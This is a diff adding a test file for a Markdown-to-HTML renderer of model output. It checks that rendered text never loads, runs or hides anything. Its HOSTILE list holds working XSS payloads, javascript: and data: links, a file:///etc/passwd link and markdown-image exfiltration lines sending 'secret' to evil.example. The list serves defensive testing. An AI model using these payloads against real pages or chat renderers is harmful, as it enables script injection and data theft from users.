@@ -1,0 +1,136 @@
+"""Markdown of a model as HTML: what is rendered, and that nothing in it loads, links unseen or runs."""
+
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from taiwa.operations.markdown_html import MarkdownStream, to_html, visible
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "![pixel](https://evil.example/?q=secret)",
+    "![pixel][ref]\n\n[ref]: https://evil.example/a.png",
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt:alert(1))",
+    "[click](data:text/html;base64,PHNjcmlwdD4=)",
+    "[click](vbscript:msgbox)",
+    "[click](file:///etc/passwd)",
+    "<https://evil.example/?q=secret>",
+    "<svg onload=alert(1)>",
+    "<iframe src=https://evil.example>",
+    "<style>*{background:url(https://evil.example)}</style>",
+    "<a href='javascript:alert(1)'>x</a>",
+    '[x](https://e.example "onmouseover=alert(1)")',
+    '[x](https://e.example/"onmouseover="alert(1))',
+    "```html\n<script>alert(1)</script>\n```",
+    '```"><script>alert(1)</script>\nx\n```',
+    "$\\href{javascript:alert(1)}{x}$",
+    "$\\text{<script>alert(1)</script>}$",
+    "$\\style{background:url(https://evil.example)}{x}$",
+    "$$\\class{x}{<img src=x>}$$",
+    "| <script> | ![](https://evil.example) |\n|--|--|\n| <b> | [y](javascript:1) |",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<!-- --><script>alert(1)</script>",
+    "<meta http-equiv=refresh content=0;url=https://evil.example>",
+    "<form action=https://evil.example><input name=q></form>",
+    "\u202egnp.exe",
+    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
+    "[\u202emoc.elpmaxe](https://evil.example)",
+]
+TAGS = frozenset(
+    """h1 h2 h3 h4 h5 h6 p em strong s code pre a small span div ul ol li blockquote hr br table thead tbody tr th td
+    math mrow mi mn mo ms mtext mspace mfrac msqrt mroot msub msup msubsup munder mover munderover mtable mtr mtd mstyle mpadded
+    mphantom menclose merror mmultiscripts mprescripts""".split()
+)
+
+
+class Page(HTMLParser):
+    """The tags of a page, with their attributes."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+
+def assert_inert(html: str) -> None:
+    for tag, attributes in Page(html).tags:
+        assert tag in TAGS
+        assert not any(name.startswith("on") or name in {"src", "srcset"} for name in attributes)
+        href = attributes.get("href")
+        assert href is None or href.startswith(("http://", "https://", "mailto:"))
+        assert href is None or "noreferrer" in (attributes["rel"] or "")
+        assert "style" not in attributes
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_no_text_loads_or_runs_anything(text: str) -> None:
+    assert_inert(to_html(text))
+    assert_inert(to_html(f"- {text}\n\n> {text}"))
+
+
+SIGNS = [*"<>[]()!`$\\|&;'\"=#*_~ \n:-x/1", "javascript:", "https://e.example/", "script"]
+
+
+@given(st.lists(st.sampled_from(SIGNS)).map("".join))
+def test_no_mixture_of_signs_loads_or_runs_anything(text: str) -> None:
+    assert_inert(to_html(text))
+
+
+def test_an_image_becomes_its_description_and_its_host() -> None:
+    html = to_html("![a map](https://maps.example/a.png)")
+
+    assert "a map" in html
+    assert "maps.example" in html
+    assert "<img" not in html
+
+
+def test_a_link_shows_where_it_leads() -> None:
+    assert '<a href="https://e.example/p"' in to_html("[our bank](https://e.example/p)")
+    assert "<small>(e.example)</small>" in to_html("[our bank](https://e.example/p)")
+
+
+def test_a_link_with_a_long_query_is_asked_about_before_it_is_opened() -> None:
+    assert "data-confirm" in to_html(f"[x](https://e.example/?q={'a' * 100})")
+    assert "data-confirm" not in to_html("[x](https://e.example/?q=a)")
+
+
+def test_characters_that_hide_or_reorder_text_are_shown() -> None:
+    assert visible("a\u202eb\x1b[31m\r\nc") == "a⟨U+202E⟩b⟨U+001B⟩[31m\nc"
+
+
+def test_a_column_is_aligned_by_a_class() -> None:
+    assert '<td class="right">1</td>' in to_html("| a |\n|--:|\n| 1 |")
+
+
+def test_code_is_highlighted_and_mathematics_is_mathml() -> None:
+    assert '<span class="k">def</span>' in to_html("```python\ndef f(): pass\n```")
+    assert "<msup><mi>x</mi><mn>2</mn></msup>" in to_html("$x^2$")
+    assert "<mo>∑</mo>" in to_html("$$\\sum_i x$$")
+    assert "<math" not in to_html("It costs $5, or $6 there.")
+
+
+@given(
+    st.lists(st.sampled_from(["# A", "- x", "- y", "", "```", "a b", "| a |", "|--|", "> q", "$x$", "1. z"])),
+    st.randoms(),
+)
+def test_a_stream_renders_closed_blocks_once_and_ends_in_the_same_text(lines: list[str], random: object) -> None:
+    text = "\n".join(lines)
+    stream, closed, place = MarkdownStream(), "", 0
+    while place < len(text):
+        step = getattr(random, "randint")(1, 5)  # noqa: B009
+        closed += stream.feed(text[place : place + step])
+        place += step
+
+    shown = Page(closed + stream.open_html).tags
+    assert_inert(closed + stream.open_html)
+    assert [tag for tag, _ in shown if tag in {"h1", "pre", "blockquote"}] == [
+        tag for tag, _ in Page(to_html(text)).tags if tag in {"h1", "pre", "blockquote"}
+    ]
